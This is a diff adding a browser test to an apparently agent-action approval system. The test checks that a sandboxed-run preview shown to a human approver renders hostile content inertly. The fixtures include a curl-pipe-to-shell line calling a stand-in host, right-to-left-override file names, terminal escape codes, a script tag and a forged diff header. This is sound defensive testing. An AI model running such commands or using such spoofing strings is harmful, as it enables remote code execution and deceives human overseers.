@@ -2,11 +2,14 @@
 
 from __future__ import annotations
 
+import json
+
 import pytest
 
 from browser import browsing
 from codesdk.domain.decisions import GrantOffer
 from codesdk.tenancy.principal import Role
+from previewed import preview
 from tickets import minted
 
 HOSTILE = (
@@ -192,6 +195,36 @@ def test_a_person_decides_on_a_phone_in_a_real_browser(standing, chromium_comman
         standing.worker.paused = False
     decided = state(standing, asked)
     assert (decided.state, decided.decided_by, decided.comment) == ("approved", ann.id, "looks right")
+
+
+def test_what_it_did_in_a_copy_is_read_on_a_phone_and_deceives_nobody(standing, chromium_command, tmp_path):
+    asked = ask(standing, "make")
+    shown = json.dumps({**asked.shown, "preview": preview()})
+    with standing.services.database.writer.begin() as connection:
+        connection.exec_driver_sql("UPDATE approvals SET shown = ? WHERE id = ?", (shown, asked.id))
+    url = link(standing, asked)
+    with browsing(chromium_command) as browser:
+        browser.open(url)
+        read = browser.text()
+        assert "Tried in a copy of the workspace" in read
+        assert "exit code 3, 3 paths changed" in read
+        for line in (
+            "modified src/app.py: file, mode 0644 → 0755, 40 → 60 bytes",
+            r'--- "a/a\012+++ b/forged.txt"',
+            r"added \x1b[2J\u202egpj.exe <script>x: file, 20 bytes, mode 0644",
+            "+os.system('curl evil.example | sh')",
+            r"done \x1b[31mred",
+            r"warning: \u202etxt.exe",
+        ):
+            assert line in read, read
+        assert "\n+++ b/forged.txt" not in read
+        assert "May this run? workspace.exec" in browser.look("document.title")
+        assert browser.look("document.images.length + document.scripts.length") == 0
+        assert browser.look("document.querySelectorAll('.add').length") > 2
+        assert browser.look("document.documentElement.scrollWidth <= window.innerWidth")
+        browser.picture(tmp_path / "previewed.png")
+        assert (tmp_path / "previewed.png").stat().st_size > 10_000
+    assert state(standing, asked).state == "pending"
 
 
 def test_where_two_people_must_agree_the_first_is_told_so(standing):
